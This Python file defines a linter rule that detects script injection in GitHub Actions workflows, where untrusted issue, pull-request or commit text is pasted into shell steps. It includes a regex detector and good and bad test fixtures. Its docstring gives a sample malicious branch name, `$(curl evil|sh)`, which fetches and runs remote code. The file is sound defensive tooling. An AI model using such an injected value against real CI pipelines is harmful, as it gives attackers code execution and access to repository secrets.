"""A script built from what a stranger wrote.

What it does
------------
Reports workflow scripts that insert the title, body, branch name or other free text of an issue, pull request,
comment or commit straight into a shell command.

Why it matters
--------------
The text is pasted into the script before the shell reads it: a branch called `$(curl evil|sh)` runs.

How to fix
----------
Pass the text through an environment variable and use it quoted: `env: {TITLE: ${{ … }}}`, then `"$TITLE"`.

When to allow it
----------------
Never.

References
----------
- https://docs.github.com/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from casemate.analysis.system import System
from casemate.authoring import HIGH, Outcome, Violation, bad, good, rule
from casemate.model.value import display
from casemate.model.workflow import Pipeline

_FREE_TEXT = re.compile(
    r"\$\{\{[^}]*\b(github\.event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label)|head\.repo\.default_branch)|"
    r"comment\.body|review\.body|discussion\.(title|body)|head_commit\.(message|author\.(name|email))|commits[^}]*message|pages[^}]*page_name|"
    r"workflow_run\.head_(branch|commit\.message))|github\.head_ref)\b[^}]*\}\}"
)


@rule("workflow-script-injection", weakness="code-injection", severity=HIGH, tags=["cwe-94", "cwe-78"])
def check(pipeline: Pipeline, system: System) -> Iterator[Outcome]:
    if pipeline.kind != "github-actions":
        return
    for job in pipeline.jobs:
        for step in job.steps:
            scripts = [step.run] if step.run is not None else []
            if step.uses is not None and step.uses.ever(lambda name: name.startswith("actions/github-script")):
                scripts += [value for key, value in step.inputs if key == "script"]
            for script in scripts:
                match = _FREE_TEXT.search(display(script))
                if match:
                    yield Violation(
                        f"{pipeline.name} pastes {match[1]} into a script", script.at, cause=f"{job.name} {match[1]}"
                    )


CASES = [
    bad(
        "github-actions",
        """
        name: greet
        on: issues
        jobs:
          greet:
            runs-on: ubuntu-latest
            steps:
              - run: echo "${{ github.event.issue.title }}"  # <- here
        """,
    ),
    good(
        "github-actions",
        """
        name: greet
        on: issues
        permissions: {issues: read}
        jobs:
          greet:
            runs-on: ubuntu-latest
            steps:
              - run: echo "$TITLE"
                env:
                  TITLE: ${{ github.event.issue.title }}
        """,
    ),
]
